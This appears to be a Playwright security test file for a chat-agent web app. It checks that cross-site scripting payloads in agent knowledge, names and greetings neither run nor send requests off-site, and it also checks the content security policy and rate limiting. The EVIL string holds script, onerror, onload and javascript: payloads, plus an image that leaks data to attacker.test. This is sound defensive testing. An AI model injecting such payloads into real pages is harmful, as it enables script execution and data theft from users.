import { agents } from '@millrace/contract'
import { expect, type Page } from '@playwright/test'
import { atDesk, test } from './support/desk.ts'
import { makePublicAgent } from './support/people.ts'

const desk = atDesk()
const { client, open } = desk

const EVIL = `The secret of the mill. <script>window.hacked=1</script> <img src="http://attacker.test/x.png" onerror="window.hacked=2">
<svg onload="window.hacked=3"></svg> [click](javascript:window.hacked=4) ![pixel](http://attacker.test/leak?q=secret) <style>body{display:none}</style>`

/** Records scripts that ran, requests that left, and what the content policy blocked. */
async function watch(page: Page) {
  const away: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(desk.url) && !request.url().startsWith('data:')) away.push(request.url())
  })
  return { away, hacked: () => page.evaluate('window.hacked ?? null') }
}

test('hostile knowledge, names and answers do nothing in the visitor’s browser', async ({ page }) => {
  const agent = await makePublicAgent(client, { '<img src=x onerror=alert(1)>': EVIL })
  await client.call(agents.update, {
    params: { id: agent.id },
    body: {
      name: '<b onmouseover=alert(1)>Desk</b>',
      greeting: EVIL.slice(0, 900),
      suggestedQuestions: ['<script>1</script>'],
    },
  })
  const seen = await watch(page)
  await page.goto(`${desk.url}/chat-public/${agent.publicId}`)
  await page.getByRole('textbox', { name: 'Message' }).fill('What is the secret of the mill?')
  await page.getByRole('button', { name: 'Send' }).click()
  await expect(page.getByRole('group', { name: 'Messages' })).toContainText('The secret of the mill')
  await page
    .getByRole('button', { name: /Source 1/ })
    .first()
    .click()
  await expect(page.getByRole('dialog')).toContainText('The secret of the mill')
  expect(await seen.hacked()).toBeNull()
  expect(seen.away).toEqual([])
  expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0)
})

test('nor in the console', async ({ page }) => {
  const { items } = await client.call(agents.list, { query: {} })
  const seen = await watch(page)
  await open(page, '/console')
  await expect(page.getByText('<b onmouseover=alert(1)>Desk</b>').first()).toBeVisible()
  await page.goto(`${desk.url}/console/agent/setting/${items[0]!.id}?tab=profile`)
  await expect(page.getByLabel('Name', { exact: true })).toHaveValue('<b onmouseover=alert(1)>Desk</b>')
  expect(await seen.hacked()).toBeNull()
  expect(seen.away).toEqual([])
})

test('pages carry a strict policy and can’t be framed', async ({ request }) => {
  for (const path of ['/console', '/chat-public/00000000-0000-4000-8000-000000000000']) {
    const response = await request.get(desk.url + path, { headers: { accept: 'text/html' } })
    const policy = response.headers()['content-security-policy']!
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy).not.toContain('unsafe')
    const nonce = /'nonce-([^']+)'/.exec(policy)![1]!
    const html = await response.text()
    expect(html).toContain(nonce)
    expect(html).not.toMatch(/<script(?![^>]*src=)/)
  }
})

test('a visitor who writes too much is told how long to wait', async ({ page }) => {
  const agent = await makePublicAgent(client, { Note: 'The gate opens at seven.' })
  await page.goto(`${desk.url}/chat-public/${agent.publicId}`)
  const field = page.getByRole('textbox', { name: 'Message' })
  for (let i = 0; i <= 20; i += 1) {
    await field.fill(`When does the gate open? ${i}`)
    await field.press('Enter')
    if (i < 20) await expect(page.getByRole('button', { name: 'Copy response' })).toHaveCount(i + 1)
  }
  await expect(page.getByText('Too many messages in a row')).toBeVisible()
})
